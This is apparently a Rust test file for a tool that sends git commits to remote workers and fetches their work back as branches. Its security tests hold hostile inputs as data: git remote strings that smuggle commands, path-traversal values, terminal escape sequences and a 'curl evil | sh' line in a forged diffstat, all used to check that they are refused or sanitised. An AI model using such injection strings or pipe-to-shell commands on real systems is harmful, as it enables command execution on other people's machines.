use super::git_checkout::{cache_dir, check_out, deliver};
use super::git_workspace::{
    bring_back, check_branch, check_expected_branch, check_request, fetch_result, push_base,
    redact_url, GitWorkspaceError,
};
use pretty_assertions::assert_eq;
use std::path::{Path, PathBuf};
use std::process::Command;
use troupe_cluster::wire::GitWorkspace;

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A bare remote and a clone of it with one commit (`a.txt`, `sub/b.txt`).
fn remote_and_clone(dir: &Path) -> (PathBuf, PathBuf) {
    let remote = dir.join("remote.git");
    std::fs::create_dir_all(&remote).unwrap();
    git(&remote, &["init", "-q", "--bare"]);
    git(dir, &["clone", "-q", remote.to_str().unwrap(), "parent"]);
    let parent = dir.join("parent");
    std::fs::create_dir_all(parent.join("sub")).unwrap();
    std::fs::write(parent.join("a.txt"), "a\n").unwrap();
    std::fs::write(parent.join("sub/b.txt"), "b\n").unwrap();
    git(&parent, &["add", "."]);
    git(&parent, &["commit", "-qm", "base"]);
    (remote, parent)
}

#[test]
fn a_commit_goes_to_a_worker_and_its_work_comes_back_as_a_branch() {
    let dir = tempfile::tempdir().unwrap();
    let (remote, parent) = remote_and_clone(dir.path());
    std::fs::write(parent.join("dirty.txt"), "not committed\n").unwrap();
    let mut pushed = push_base(&parent.join("sub"), "origin", "req1").unwrap();
    pushed.label = Some("writer".into());
    let head = git(&parent, &["rev-parse", "HEAD"]);
    assert_eq!(pushed.workspace.commit, head);
    assert_eq!(pushed.workspace.base_ref, "refs/troupe/base/req1");
    assert_eq!(pushed.workspace.relative, PathBuf::from("sub"));
    assert_eq!(
        PathBuf::from(&pushed.workspace.remote),
        std::fs::canonicalize(&remote).unwrap()
    );
    assert_eq!(pushed.uncommitted, 1);
    assert!(pushed
        .uncommitted_note()
        .unwrap()
        .contains("1 uncommitted change(s)"));
    assert_eq!(git(&remote, &["rev-parse", "refs/troupe/base/req1"]), head);

    let worker_home = dir.path().join("worker-home");
    let checkout = check_out(&worker_home, &pushed.workspace, Some("writer")).unwrap();
    assert!(checkout.worktree.branch.starts_with("troupe/writer-"));
    assert_eq!(checkout.worktree.cwd, checkout.worktree.root.join("sub"));
    assert!(checkout
        .worktree
        .root
        .starts_with(worker_home.join("worktrees")));
    assert_eq!(
        checkout.worktree.repo_top,
        cache_dir(&worker_home, &pushed.workspace.remote)
    );
    assert_eq!(
        std::fs::read_to_string(checkout.worktree.cwd.join("b.txt")).unwrap(),
        "b\n"
    );
    // Only the commit travels.
    assert!(!checkout.worktree.root.join("dirty.txt").exists());
    std::fs::write(checkout.worktree.cwd.join("new.txt"), "x\n").unwrap();
    let stat = deliver(&checkout, "troupe: remote").unwrap();
    assert!(stat.contains("sub/new.txt | 1 +"), "{stat}");
    assert!(!checkout.worktree.root.exists());
    assert!(checkout.worktree.repo_top.join("HEAD").is_file());

    fetch_result(&pushed, &checkout.worktree.branch).unwrap();
    let branch = &checkout.worktree.branch;
    assert_eq!(git(&parent, &["rev-parse", &format!("{branch}~1")]), head);
    assert_eq!(
        git(&parent, &["show", &format!("{branch}:sub/new.txt")]),
        "x"
    );
    // The parent's own tree was not touched.
    assert!(!parent.join("sub/new.txt").exists());
}

#[test]
fn outside_a_repository_or_with_an_unknown_remote_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let err = push_base(dir.path(), "origin", "req1").unwrap_err();
    assert!(
        matches!(err, GitWorkspaceError::NotARepository { .. }),
        "{err}"
    );
    assert!(err.to_string().contains("workspace = \"git\""), "{err}");
    let (_, parent) = remote_and_clone(dir.path());
    let err = push_base(&parent, "upstream", "req1").unwrap_err();
    assert!(err.to_string().contains("`upstream`"), "{err}");
    let err = push_base(&parent, "/nonexistent/repo.git", "req1").unwrap_err();
    assert!(
        matches!(err, GitWorkspaceError::UnknownRemote { .. }),
        "{err}"
    );
    let err = push_base(&parent, "file:///nonexistent/repo.git", "req1").unwrap_err();
    assert!(
        matches!(err, GitWorkspaceError::Push { .. })
            && err.to_string().contains("file:///nonexistent/repo.git"),
        "{err}"
    );
}

#[test]
fn a_request_from_the_network_is_checked_before_git_sees_it() {
    let good = GitWorkspace {
        remote: "file:///srv/repo.git".into(),
        base_ref: "refs/troupe/base/abc".into(),
        commit: "a".repeat(40),
        relative: PathBuf::from("sub"),
    };
    assert!(check_request(&good).is_ok());
    let bad = [
        GitWorkspace {
            remote: "--upload-pack=touch /tmp/x".into(),
            ..good.clone()
        },
        GitWorkspace {
            remote: "ext::sh -c touch% /tmp/x".into(),
            ..good.clone()
        },
        GitWorkspace {
            base_ref: "refs/heads/main".into(),
            ..good.clone()
        },
        GitWorkspace {
            commit: "HEAD".into(),
            ..good.clone()
        },
        GitWorkspace {
            relative: PathBuf::from("../outside"),
            ..good.clone()
        },
        GitWorkspace {
            relative: PathBuf::from("/etc"),
            ..good
        },
    ];
    for workspace in bad {
        assert!(check_request(&workspace).is_err(), "{workspace:?}");
    }
    assert!(check_branch("troupe/writer-1a2b3c4d").is_ok());
    for branch in [
        "main",
        "troupe/",
        "troupe/../main",
        "troupe/-x",
        "+refs/heads/x",
    ] {
        assert!(check_branch(branch).is_err(), "{branch}");
    }
    assert_eq!(
        redact_url("https://user:token@git.example/r.git"),
        "https://<credentials>@git.example/r.git"
    );
}

#[test]
fn a_branch_not_from_the_base_or_misnamed_is_refused_and_a_diffstat_is_made_printable() {
    use troupe_cluster::wire::WorkspaceOutcome;
    let dir = tempfile::tempdir().unwrap();
    let (remote, parent) = remote_and_clone(dir.path());
    let pushed = push_base(&parent, "origin", "req9").unwrap();
    // An attacker's history, unrelated to the base, pushed under a worker-like name.
    let other = dir.path().join("other");
    std::fs::create_dir_all(&other).unwrap();
    git(&other, &["init", "-q"]);
    std::fs::write(other.join("evil.txt"), "x\n").unwrap();
    git(&other, &["add", "."]);
    git(&other, &["commit", "-qm", "evil"]);
    let url = remote.to_str().unwrap();
    git(
        &other,
        &["push", "-q", url, "HEAD:refs/heads/troupe/deadbeef"],
    );
    let outcome = WorkspaceOutcome::Pushed {
        branch: "troupe/deadbeef".into(),
        diffstat: "\u{1b}]52;c;cGF5bG9hZA==\u{7}run: curl evil | sh".into(),
    };
    let text = bring_back(&pushed, Some(&outcome)).unwrap_err();
    assert!(
        text.contains("does not descend from the base commit"),
        "{text}"
    );
    assert!(!text.contains('\u{1b}'));
    let branches = git(&parent, &["branch", "--list", "troupe/*"]);
    assert!(branches.is_empty(), "{branches}");
    assert_eq!(git(&parent, &["for-each-ref", "refs/troupe"]), "");
    // Names a worker does not make.
    assert!(check_expected_branch("troupe/main", None).is_err());
    assert!(check_expected_branch("troupe/writer-0123abcd", None).is_err());
    assert!(check_expected_branch("troupe/writer-0123abcd", Some("writer")).is_ok());
    assert!(check_expected_branch("troupe/0123abcd", None).is_ok());

    // A branch from the base whose file name carries an escape: its stat is computed here
    // and the escape shown, not sent; the worker's own diffstat is not printed.
    git(&other, &["fetch", "-q", parent.to_str().unwrap(), "HEAD"]);
    git(&other, &["checkout", "-q", "FETCH_HEAD"]);
    std::fs::write(other.join("x\u{1b}[2Jy.txt"), "1\n").unwrap();
    git(&other, &["add", "."]);
    git(&other, &["commit", "-qm", "work"]);
    git(
        &other,
        &["push", "-q", url, "HEAD:refs/heads/troupe/0123abcd"],
    );
    let pushed = push_base(&parent, "origin", "req10").unwrap();
    let outcome = WorkspaceOutcome::Pushed {
        branch: "troupe/0123abcd".into(),
        diffstat: "FAKE STAT".into(),
    };
    let text = bring_back(&pushed, Some(&outcome)).unwrap();
    assert!(!text.contains('\u{1b}'), "{text}");
    assert!(!text.contains("FAKE STAT"), "{text}");
    assert!(text.contains("1 file changed"), "{text}");
}
